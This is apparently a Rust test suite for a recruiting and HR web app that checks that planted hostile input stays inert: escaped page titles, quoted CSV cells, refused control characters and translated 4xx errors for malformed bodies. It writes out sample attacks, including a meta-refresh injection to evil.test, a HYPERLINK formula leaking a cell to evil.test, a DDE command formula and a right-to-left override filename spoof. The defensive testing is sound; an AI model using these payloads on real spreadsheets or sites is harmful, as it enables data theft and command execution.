//! What an attacker types or plants: markup in stored names, spreadsheet formulas, control and
//! direction characters, oversized and malformed bodies. Each lands as text or gets a
//! translated 4xx, never a 5xx.
use crate::common::harness::TestApp;
use crate::on_both;
use reqwest::StatusCode;
use serde_json::{json, Value};
use shared::{Locale, Msg, Role};

const MARKUP: &str = r#"</title><meta http-equiv="refresh" content="0;url=http://evil.test/">"#;

async fn plant(app: &TestApp, sql: &str, value: &str) {
    sqlx::query(sql).bind(value).execute(&app.backend.db.pool).await.expect(sql);
}

/// The document head of a page as the server sent it.
async fn head(who: &reqwest::Client, url: String) -> String {
    let res = who.get(&url).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK, "{url}");
    let page = res.text().await.unwrap();
    page.split("</head>").next().unwrap_or_default().to_string()
}

on_both!(stored_text_in_page_titles_stays_text, |app| {
    let job = crate::recruiting::job(&app).await;
    let admin = app.as_role(Role::Admin).await;
    let candidate = crate::recruiting::add(&app, &admin, job, "Title Kim").await;
    plant(&app, &format!("UPDATE candidates SET full_name = $1 WHERE id = {candidate}"), MARKUP).await;
    plant(&app, &format!("UPDATE jobs SET title = $1 WHERE id = {job}"), MARKUP).await;
    let person = app.person_id("person0000@demo.staffport.dev").await;
    let me = app.person_id(crate::common::harness::demo_email(Role::Employee)).await;
    plant(&app, &format!("UPDATE people SET family_name = $1 WHERE id IN ({person}, {me})"), MARKUP).await;
    // A request filed under a type whose name carries the markup.
    let employee = app.as_role(Role::Employee).await;
    let (status, request) =
        crate::cabinet::file(&app, &employee, "employment_certificate", json!({ "purpose": "visa", "copies": "1" })).await;
    assert_eq!(status, StatusCode::OK, "{request}");
    let request = request.as_i64().unwrap();
    let stored: String = sqlx::query_scalar(&format!(
        "SELECT COALESCE(r.definition, t.definition) FROM requests r JOIN request_types t ON t.id = r.type_id WHERE r.id = {request}"
    ))
    .fetch_one(&app.backend.db.pool)
    .await
    .unwrap();
    let mut def: Value = serde_json::from_str(&stored).unwrap();
    def["name"] = json!({ "en": MARKUP, "ko": MARKUP, "ru": MARKUP });
    plant(&app, &format!("UPDATE requests SET definition = $1 WHERE id = {request}"), &def.to_string()).await;

    let pages = [
        (&admin, format!("/recruiting/candidates/{candidate}")),
        (&admin, format!("/recruiting/{job}")),
        (&admin, format!("/recruiting/{job}/settings")),
        (&admin, format!("/people/{person}")),
        (&employee, format!("/requests/{request}")),
        (&employee, "/profile".to_string()),
    ];
    for (who, path) in pages {
        let head = head(who, app.url(&path)).await;
        assert!(!head.contains("<meta http-equiv"), "markup escaped the title of {path}: {head}");
        let title = head.split("<title>").nth(1).and_then(|t| t.split("</title>").next()).unwrap_or_default();
        assert!(title.contains("&lt;/title&gt;&lt;meta"), "the name shows as text in the title of {path}: {title}");
    }
});

on_both!(exported_cells_never_start_a_formula, |app| {
    let job = crate::recruiting::job(&app).await;
    let recruiter = app.as_role(Role::Recruiter).await;
    let hostile = [r#"=HYPERLINK("http://evil.test/?"&A1,"click")"#, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@sum(1+1)"];
    for name in hostile {
        let id = crate::recruiting::add(&app, &recruiter, job, "Formula Park").await;
        plant(&app, &format!("UPDATE candidates SET full_name = $1 WHERE id = {id}"), name).await;
    }
    let csv = recruiter.get(app.url(&format!("/exports/candidates.csv?job_id={job}"))).send().await.unwrap().text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader.records().flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect();
    for name in hostile {
        assert!(cells.contains(&format!("'{name}")), "{name} is written as text: {csv}");
    }
    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '-', '@']) && c.parse::<f64>().is_err()), "no live formula: {csv}");
});

/// A server function's refusal: its status and the message it names.
async fn refusal(app: &TestApp, who: &reqwest::Client, endpoint: &str, body: Value) -> (StatusCode, Option<Msg>) {
    let (status, body) = app.call(who, endpoint, body).await;
    (status, serde_json::from_value::<app::AppError>(body).ok().map(|e| e.msg()))
}

on_both!(oversized_and_malformed_bodies_get_a_translated_4xx, |app| {
    let admin = app.as_role(Role::Admin).await;
    let long = "가".repeat(100_000);
    let too_long = (StatusCode::UNPROCESSABLE_ENTITY, Some(Msg::ErrSearchTooLong));
    assert_eq!(refusal(&app, &admin, "people/list", json!({ "query": long, "role": null, "page": 1 })).await, too_long);
    let query = json!({ "query": { "text": long, "status": null, "job_id": null, "source": "", "page": 1 } });
    assert_eq!(refusal(&app, &admin, "recruiting/candidates", query).await, too_long);
    assert_eq!(refusal(&app, &admin, "recruiting/colleagues", json!({ "query": long })).await, too_long);

    // Ten megabytes of JSON: refused before any handler reads it, with the message in the
    // caller's language.
    let huge = json!({ "query": "x".repeat(10 * 1024 * 1024), "role": null, "page": 1 });
    let res = admin.post(app.url("/api/people/list")).header("accept-language", "ko").json(&huge).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(serde_json::from_str::<app::AppError>(&res.text().await.unwrap()).ok(), Some(app::AppError::TooLarge));
    let res =
        admin.post(app.url("/login")).header("accept-language", "ru").form(&[("email", "x".repeat(2 * 1024 * 1024))]).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(res.text().await.unwrap(), Msg::ErrTooLarge.text(Locale::Ru));

    let raw = |body: &'static str| admin.post(app.url("/api/people/list")).header("content-type", "application/json").body(body).send();
    let nested = Box::leak(format!("{}1{}", "[".repeat(5000), "]".repeat(5000)).into_boxed_str());
    for body in [r#"{"query": "kim", "page": 1"#, "{query: kim}", r#"{"query": 5, "page": "one"}"#, r#"{"page": 1}"#, "", nested] {
        let res = raw(body).await.unwrap();
        let status = res.status();
        let text = res.text().await.unwrap();
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body:.40}: {text}");
        assert_eq!(serde_json::from_str::<app::AppError>(&text).ok(), Some(app::AppError::BadRequest), "{text}");
    }
    assert_eq!(app.scalar("SELECT COUNT(*) FROM people WHERE email LIKE 'matrix%'").await, 0);
});

on_both!(control_and_direction_characters_are_refused_in_every_text, |app| {
    let recruiter = app.as_role(Role::Recruiter).await;
    let job = crate::recruiting::job(&app).await;
    let before = app.scalar("SELECT COUNT(*) FROM candidates").await;
    let input = |name: &str| {
        json!({ "input": { "job_id": job, "full_name": name, "phone": "", "email": "", "birth_date": "", "address": "",
        "source": "", "tags": "" } })
    };
    for name in ["Kim\u{0}", "Kim\u{7}Lee", "\u{202E}gpj.exe", "Lee\u{2066}x", "Kim\u{85}"] {
        let (status, body) = app.call(&recruiter, "recruiting/add_candidate", input(name)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name:?}: {body}");
        assert_eq!(
            (body["Invalid"][0]["field"].as_str(), body["Invalid"][0]["msg"].as_str()),
            (Some("full_name"), Some("ErrControlChars"))
        );
    }
    assert_eq!(app.scalar("SELECT COUNT(*) FROM candidates").await, before, "nothing written");
    // Line breaks in a name are refused by the form's own check; in a comment they are text.
    let (status, body) = app.call(&recruiter, "recruiting/add_candidate", input("Kim\nLee")).await;
    assert_eq!((status, body["Invalid"][0]["msg"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("ErrControlChars")));
    let id = crate::recruiting::add(&app, &recruiter, job, "Comment Cho").await;
    let (status, body) =
        app.call(&recruiter, "recruiting/comment", json!({ "candidate_id": id, "body": "first line\nsecond\tline" })).await;
    assert_eq!(status, StatusCode::OK, "{body}");

    // A person's name through the people form.
    let hr = app.as_role(Role::HrManager).await;
    let invite =
        json!({ "input": { "email": "bidi@example.com", "family_name": "\u{202E}nimda", "given_name": "X", "roles": ["employee"] } });
    let (status, body) = app.call(&hr, "people/invite", invite).await;
    assert_eq!((status, body["Invalid"][0]["field"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("family_name")));
});

// The link pages' forms take only what their buttons send: an unknown answer or a missing field
// is a translated 400, never read as some default answer.
on_both!(link_forms_refuse_what_their_pages_never_send, |app| {
    let http = crate::common::harness::client();
    let origin = app.url("");
    let origin = origin.trim_end_matches('/');
    let posts: [(&str, &[(&str, &str)]); 3] = [
        ("/invitation/any-token", &[("answer", "maybe"), ("text", "Thursday")]),
        ("/approve/any-token", &[("action", "approve")]),
        ("/approve/any-token", &[("timesheet_id", "1"), ("version", "1"), ("action", "rubber-stamp")]),
    ];
    for (path, form) in posts {
        let res = http.post(app.url(path)).header("origin", origin).header("accept-language", "ko").form(form).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{path} {form:?}");
        assert_eq!(res.text().await.unwrap(), Msg::ErrBadRequest.text(Locale::Ko), "{path}");
    }
});
